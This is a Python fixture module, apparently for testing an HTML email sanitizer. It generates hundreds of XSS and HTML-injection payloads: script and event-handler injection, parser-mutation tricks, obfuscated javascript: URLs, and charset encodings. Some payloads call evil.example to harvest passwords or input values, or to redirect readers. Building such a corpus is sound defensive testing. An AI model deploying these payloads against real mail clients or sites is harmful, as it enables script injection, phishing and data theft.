"""Mails that attack whoever reads them, by the classes of security.md D1. `EVIL` in a dialog, in the console or in an
address asked for is a breach.
"""

from itertools import product

RUN = "alert('EVIL')"
AWAY = "http://evil.example/EVIL"


def _handlers():
    tags = "p div img a b table td svg math details input body video audio marquee iframe object form style x".split()
    events = "onclick onload onerror onmouseover onfocus ontoggle onanimationstart onbegin".split()
    for at, tag in enumerate(tags):
        yield f"<{tag} {events[at % 8]}={RUN} src=x autofocus open tabindex=1>x</{tag}>"
        yield f'<{tag}/{events[(at + 3) % 8].upper()}\n=\n"{RUN}"/href=x >x</{tag}>'
    yield f'<img src="x` `<script>{RUN}</script>"` `>'
    yield f"<img src=x onerror\x0b={RUN}>"
    yield f"<img src=x onerror\x00={RUN}>"
    yield f"<img src=x\x0conerror={RUN}>"
    yield f'<img alt="" "onerror={RUN} src=x>'
    yield f"<img ='>' onerror={RUN} src=x>"
    yield f'<img src="x"onerror="{RUN}">'
    yield f"<p title='\"><img src=x onerror={RUN}>'>x</p>"
    yield f'<p lang="en&quot; onclick=&quot;{RUN}">x</p>'
    yield f'<p dir="&quot;><img src=x onerror={RUN}>">x</p>'
    yield f'<a href="https://a.example/&quot; onmouseover=&quot;{RUN}">x</a>'
    yield f"<a href='https://a.example/\" onmouseover=\"{RUN}'>x</a>"


def _scripts():
    yield f"<script>{RUN}</script>"
    yield f"<ScRiPt >{RUN}</sCrIpT >"
    yield f"<script/x>{RUN}</script/x>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<script src={AWAY}></script>"
    yield "<script src=//evil.example/EVIL></script>"
    yield f"<script type=module>{RUN}</script>"
    yield f"<script>{RUN}"
    yield f"<script><!--<script>{RUN}</script>--></script><img src=x onerror={RUN}>"
    yield f"<!--><script>{RUN}</script>-->"
    yield f"<!---><script>{RUN}</script>-->"
    yield f"<!-- --!><script>{RUN}</script>-->"
    yield f"<!-- <!-- --><script>{RUN}</script>-->"
    yield f"<!--[if gte mso 9]><script>{RUN}</script><![endif]-->"
    yield f"<![if !mso]><script>{RUN}</script><![endif]>"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<?xml version='1.0'?><script>{RUN}</script>"
    yield f"<?php <img src=x onerror={RUN}> ?>"
    yield f"<!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;"
    yield f"<%<script>{RUN}</script>%>"
    yield f"</script><script>{RUN}</script>"
    yield f"<xss><script>{RUN}</script>"
    yield f"<script>{RUN}</script\x00>"


def _nested():
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<<script>script>{RUN}<</script>/script>"
    yield f"<scr\x00ipt>{RUN}</scr\x00ipt>"
    yield f"<sc<!-- -->ript>{RUN}</script>"
    yield f"<scr<p>ipt>{RUN}</scr</p>ipt>"
    yield f"<img <img src=x onerror={RUN}>>"
    yield f"<a <a href=javascript:{RUN}>x</a>"
    yield f"<p<p onclick={RUN}>>x"
    yield f"<<<<img src=x onerror={RUN}>"
    yield f"<im<style></style>g src=x onerror={RUN}>"
    yield f"<if<iframe></iframe>rame src=javascript:{RUN}>"
    for outer, inner in product(
        ["div", "b", "svg", "table", "title"], ["<script>", "<img src=x onerror=", "<svg onload="]
    ):
        yield f"<{outer}<{outer}>{inner}{RUN}></{outer}>"


def _foreign():
    yield f"<svg onload={RUN}>"
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{RUN}'/></svg>"
    yield f"<svg><style><img src=x onerror={RUN}></style></svg>"
    yield f"<svg><style>{{font-family:'<iframe/onload={RUN}>'</style></svg>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>"
    yield f"<svg><use href='{AWAY}#x'/></svg>"
    yield f"<svg><image href='{AWAY}'/></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set attributeName=href to=javascript:{RUN}><a><text>x</text></a></svg>"
    yield f"<svg><foreignObject><iframe src='javascript:{RUN}'></foreignObject></svg>"
    yield f"<svg><desc><img src=x onerror={RUN}></desc></svg>"
    yield f"<svg><title><style><img title='</style><img src=x onerror={RUN}>'></title></svg>"
    yield f"<math href='javascript:{RUN}'>x</math>"
    yield f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>"
    yield f"<math><maction actiontype=statusline#{AWAY} xlink:href='javascript:{RUN}'>x</maction></math>"
    yield f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>"
    yield f"<math><mtext><img src=x onerror={RUN}></mtext></math>"
    yield f"<svg/><img src=x onerror={RUN}>"
    yield f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>"


def _mutations():
    bomb = f"<img src=x onerror={RUN}>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{bomb}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{bomb}"
    yield f"<svg></p><style><a id='</style>{bomb}'>"
    yield f"<math></br><style><a title='</style>{bomb}'>"
    yield f"<svg><p><style><g title='</style>{bomb}'>"
    yield f"<noscript><p title='</noscript>{bomb}'></noscript>"
    yield f"<noembed><p title='</noembed>{bomb}'></noembed>"
    yield f"<noframes><p title='</noframes>{bomb}'></noframes>"
    yield f"<xmp><p title='</xmp>{bomb}'></xmp>"
    yield f"<iframe><p title='</iframe>{bomb}'></iframe>"
    yield f"<textarea><p title='</textarea>{bomb}'></textarea>"
    yield f"<title><p title='</title>{bomb}'></title>"
    yield f"<plaintext>{bomb}</plaintext>{bomb}"
    yield f"<template><p title='</template>{bomb}'></template>"
    yield f"<select><template><style></select>{bomb}</style></template></select>"
    yield f"<select><option><style></option></select>{bomb}</style>"
    yield f"<table><style><a title='</style>{bomb}'></table>"
    yield f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>"
    yield f"<pre>\n\n&lt;img src=x onerror={RUN}&gt;</pre>"
    yield f"<p>&lt;img src=x onerror={RUN}&gt;</p>"
    yield f"<p>&amp;lt;img src=x onerror={RUN}&amp;gt;</p>"
    yield f"<p>&amp;amp;lt;script&amp;amp;gt;{RUN}"
    yield f"<b><p><b><p><a><b><table><a><td><b></a>{bomb}"
    yield f"<a><table><a>{bomb}</a></table></a>"
    yield f"<table><tr><form><td>{bomb}</form></td></tr></table>"
    yield f"<table>{bomb}<tr><p>x</table>"
    yield f"<option><optgroup><svg></option><style>{bomb}</style>"
    yield f"<p></p><nobr><nobr>{bomb}</nobr>"
    yield f"<button><p><button>{bomb}</button>"
    yield f"<dl><dt><style></dl>{bomb}</style>"
    yield f"<font color='</font>{bomb}'>x</font>"
    yield f"<caption><svg><style><caption></style>{bomb}"
    yield f"<frameset><frame src='javascript:{RUN}'></frameset>"
    yield f"<head><base href='{AWAY}/'></head><body>{bomb}</body>"
    yield f"<ruby><rt><svg><rt><style>{bomb}</style>"


def _takeovers():
    yield f"<base href='{AWAY}/'><img src=x><a href=x>x</a>"
    yield f"<base target=_top><a href='{AWAY}'>x</a>"
    yield f"<form action='{AWAY}'><input name=password autofocus><button>Sign in</button></form>"
    yield f"<form id=f></form><button form=f formaction='javascript:{RUN}'>x</button>"
    yield f"<isindex action='javascript:{RUN}' type=image>"
    yield f"<input type=image src='{AWAY}' onerror={RUN}>"
    yield f"<input autofocus onfocus={RUN}><textarea autofocus>x</textarea><select autofocus><option>x"
    yield f"<meta http-equiv=refresh content='0;url={AWAY}'>"
    yield f"<meta http-equiv='refresh' content='0;url=data:text/html,<script>{RUN}</script>'>"
    yield "<meta http-equiv=set-cookie content='a=EVIL'>"
    yield "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">"
    yield "<meta charset=utf-7>+ADw-script+AD4-alert('EVIL')+ADw-/script+AD4-"
    yield f"<link rel=stylesheet href='{AWAY}'>"
    yield f"<link rel=prefetch href='{AWAY}'>"
    yield f"<link rel=dns-prefetch href='//evil.example'><link rel=preconnect href='{AWAY}'>"
    yield f"<link rel=import href='{AWAY}'>"
    yield f"<link rel=icon href='{AWAY}'>"
    yield f"<iframe src='{AWAY}'></iframe>"
    yield f"<iframe srcdoc='<script>{RUN}</script>'></iframe>"
    yield f"<iframe src='javascript:{RUN}'></iframe>"
    yield f"<frameset onload={RUN}>"
    yield f"<object data='{AWAY}'></object>"
    yield "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgnRVZJTCcpPC9zY3JpcHQ+'></object>"
    yield f"<object><param name=src value='{AWAY}'></object>"
    yield f"<embed src='{AWAY}'>"
    yield f"<embed src='javascript:{RUN}'>"
    yield f"<applet code='{AWAY}'></applet>"
    yield f"<portal src='{AWAY}'></portal>"
    yield f"<dialog open>Your session ended. <a href='{AWAY}'>Sign in</a></dialog>"
    yield f"<p hx-get='{AWAY}' hx-trigger=load>x</p>"
    yield f"<p hx-on:load=\"{RUN}\" hx-on::after-init='{RUN}'>x</p>"
    yield f"<p data-hx-get='{AWAY}' data-hx-trigger=load data-hx-on:click={RUN}>x</p>"
    yield f"<a href='/accounts/logout/' data-key=x data-dialog data-poll='{AWAY}'>x</a>"
    yield f"<p contenteditable autofocus onfocus={RUN}>x</p>"
    yield f"<button popovertarget=x onclick={RUN}>x</button><div popover id=x onbeforetoggle={RUN}>x</div>"
    yield "<div id=main name=csrf-token class=dialog>x</div><img name=body><form name=cookie>"
    yield "<a id=location></a><a id=location name=href href='cid:EVIL'>x</a>"
    yield "<img id=getElementById name=querySelector><form id=body><input name=action></form>"
    yield f"<a href='https://a.example/' ping='{AWAY}' download=EVIL.exe target=_self rel=opener>x</a>"
    yield f"<map name=m><area href='javascript:{RUN}' shape=default></map><img usemap=#m src=cid:x>"
    yield f"<keygen autofocus onfocus={RUN}><command onclick={RUN}><menuitem onclick={RUN}>"


def _styles():
    for css in (
        "position:fixed;inset:0;z-index:99999;background:red",
        "position:absolute;top:-500px;left:-500px;width:5000px;height:5000px",
        f"background:url({AWAY})",
        f"background-image:image-set('{AWAY}' 1x)",
        f"list-style:url({AWAY})",
        f"content:url({AWAY})",
        f"cursor:url({AWAY}),auto",
        f"width:expression({RUN})",
        f"width:e/**/xpression({RUN})",
        f"-moz-binding:url({AWAY}#x)",
        f"behavior:url({AWAY})",
        f"background:\\75rl({AWAY})",
        f"background:u\\72l('javascript:{RUN}')",
        f"--x:url({AWAY});background:var(--x)",
        "animation:x 1s",
        "margin:-9999px;transform:scale(99)",
        "display:block;float:left;width:100vw;height:100vh;pointer-events:all",
    ):
        yield f'<div style="{css}">x</div>'
    yield f"<style>@import '{AWAY}';</style>x"
    yield f"<style>@import url({AWAY});body{{background:url({AWAY})}}</style>x"
    yield f"<style>@font-face{{font-family:x;src:url({AWAY})}}*{{font-family:x}}</style>x"
    yield f"<style>@namespace url({AWAY});</style>x"
    yield f"<style>input[value^=a]{{background:url({AWAY})}}</style><input value=a>"
    yield "<style>body{display:none}iframe{position:fixed;inset:0}</style>x"
    yield f"<style></style ><img src=x onerror={RUN}></style>"
    yield f"<style><!--</style><img src=x onerror={RUN}>-->"
    yield f"<p style='x:\"><img src=x onerror={RUN}>'>x</p>"
    yield f"<style>a{{background:url('javascript:{RUN}')}}</style>x"
    yield f"<table background='{AWAY}'><td background='{AWAY}'>x</table>"
    yield f"<body background='{AWAY}' bgcolor='{AWAY}' onload={RUN}>x"
    yield "<font size=9999999 face=EVIL>x</font><marquee width=99999 height=99999>x</marquee>"
    yield "<td rowspan=99999999 colspan=99999999 width=99999999 height=99999999>x"


def _pictures():
    for source in (
        AWAY, "//evil.example/EVIL", "\\\\evil.example\\EVIL", "http:evil.example/EVIL", "HTTP://EVIL.example/EVIL",
        " \thttp://evil.example/EVIL", "ht\ntp://evil.example/EVIL", "&#104;ttp://evil.example/EVIL",
        "/accounts/logout/",
        "ftp://evil.example/EVIL", "file:///etc/passwd", "blob:EVIL", "about:EVIL", f"javascript:{RUN}", "x", "?EVIL",
        f"data:image/svg+xml,<svg xmlns='x' onload={RUN}/>", f"data:text/html,<script>{RUN}</script>", "cid:EVIL",
        "data:image/png;base64,EVIL\" onerror=\"alert('EVIL')", "mhtml:http://evil.example/EVIL!x",
    ):  # fmt: skip
        yield f'<img src="{source}" alt="x">'
    yield f"<img srcset='{AWAY} 1x, {AWAY}2 2x' src=x>"
    yield f"<img src=cid:x srcset='{AWAY} 1x' sizes=100vw>"
    yield f"<picture><source srcset='{AWAY}'><img src=x></picture>"
    yield f"<img lowsrc='{AWAY}' dynsrc='{AWAY}' longdesc='{AWAY}' src=x>"
    yield f"<image src='{AWAY}' onerror={RUN}>"
    yield f"<video src='{AWAY}' poster='{AWAY}' autoplay onerror={RUN}></video>"
    yield f"<audio src='{AWAY}' autoplay></audio><track src='{AWAY}'>"
    yield f"<video><source src='{AWAY}' onerror={RUN}></video>"
    yield f"<img src=x loading=eager crossorigin=anonymous referrerpolicy=unsafe-url onerror={RUN}>"
    yield f"<blockquote cite='{AWAY}'>x</blockquote><q cite='{AWAY}'>x</q><del cite='javascript:{RUN}'>x</del>"


def _addresses():
    for address in (
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}", f"java\x00script:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript&colon;{RUN}",
        f"&#0000000000000000000106;avascript:{RUN}", f"java&Tab;script&colon;{RUN}", f"javascript&#58{RUN}",
        f"&NewLine;javascript:{RUN}", f"javascript:/*--></title></style></script><svg onload={RUN}>",
        f"\u2028javascript:{RUN}", f"\u00a0javascript:{RUN}", f"\u200bjavascript:{RUN}", f"ｊavascript:{RUN}",
        f"javascript\u0589{RUN}", f"feed:javascript:{RUN}", f"view-source:javascript:{RUN}", f"jar:javascript:{RUN}",
        f"vbscript:{RUN}", f"livescript:{RUN}", f"mocha:{RUN}", f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgnRVZJTCcpPC9zY3JpcHQ+", "data:,EVIL", "file:///etc/passwd",
        "blob:http://evil.example/EVIL", "about:blank", "//evil.example/EVIL", "/\\evil.example/EVIL",
        "\\\\evil.example",
        "/accounts/logout/", "?next=EVIL", "#EVIL", "ms-word:ofe|u|http://evil.example", "search-ms:query=EVIL",
        "intent://evil.example#Intent;end", "tel:javascript:EVIL", "tel:*#06#",
        "mailto:a@b.example?bcc=EVIL@evil.example",
        "mailto:a@b.example%0d%0aBcc:EVIL@evil.example", "mailto:javascript:EVIL", "http://", "https:",
        "http://[", "http://a b",
        "http://%00evil", "http://evil\u202egro.knab/", "https://bank.example@evil.example/",
        "https:\\\\evil.example",
        "https://evil.example\\@bank.example", "http://ev%69l.example/%22onclick=EVIL", "x:y", "sms:EVIL", "geo:0,0",
    ):  # fmt: skip
        yield f'<a href="{address}">x</a>'
    yield f"<a href=javascript:{RUN}>x</a>"
    yield f"<a href='x' href='javascript:{RUN}'>x</a>"
    yield f"<a\nhref\n=\njavascript:{RUN}>x</a>"


def _charsets():
    yield "+ADw-script+AD4-alert('EVIL')+ADw-/script+AD4-"
    yield "+ADw-img src+AD0-x onerror+AD0-alert('EVIL')+AD4-"
    yield "\x1b$B<script>alert('EVIL')</script>\x1b(B"
    yield "<img alt='\x1b(J' src='\x1b$B' onerror=alert('EVIL')\x1b(B>"
    yield "\x1b(J<a href='x\x1b(B' onmouseover=alert('EVIL')>x</a>"
    yield "~{<script>alert('EVIL')</script>~}"
    yield "\ufeff<script>alert('EVIL')</script>"
    yield "\xbcscript\xbealert(\xa2EVIL\xa2)\xbc/script\xbe"
    yield "＜script＞alert('EVIL')＜/script＞"
    yield "<\u0131mg src=x onerror=alert('EVIL')>"
    yield "<ſcript>alert('EVIL')</ſcript>"
    yield "<img src=x onerror=\u2028alert('EVIL')>"
    yield "\ud83d<script>alert('EVIL')</script>\ude00"
    yield "\u202e<script>alert('EVIL')</script>\u202c"
    yield "&lt;script&gt;alert('EVIL')&lt;/script&gt;"
    yield "&#60;script&#62;alert('EVIL')&#60;/script&#62;"
    yield "&#x3c;script&#x3e;alert('EVIL')&#x3c;/script&#x3e;"
    yield "&LT;script&GT;alert('EVIL')"
    yield "&lt&#115;cript&gt;alert('EVIL')"
    yield "\\u003cscript\\u003ealert('EVIL')\\u003c/script\\u003e"
    yield "%3Cscript%3Ealert('EVIL')%3C/script%3E"
    yield "{{constructor.constructor('alert(1)')()}} {% debug %} ${alert('EVIL')} #{alert('EVIL')}"


CLASSES = {
    "handlers": list(_handlers()),
    "scripts": list(_scripts()),
    "nested tags": list(_nested()),
    "svg and mathml": list(_foreign()),
    "mutations": list(_mutations()),
    "base, forms, meta, frames": list(_takeovers()),
    "styles": list(_styles()),
    "pictures": list(_pictures()),
    "addresses": list(_addresses()),
    "charsets and entities": list(_charsets()),
}
ALL = [payload for payloads in CLASSES.values() for payload in payloads]
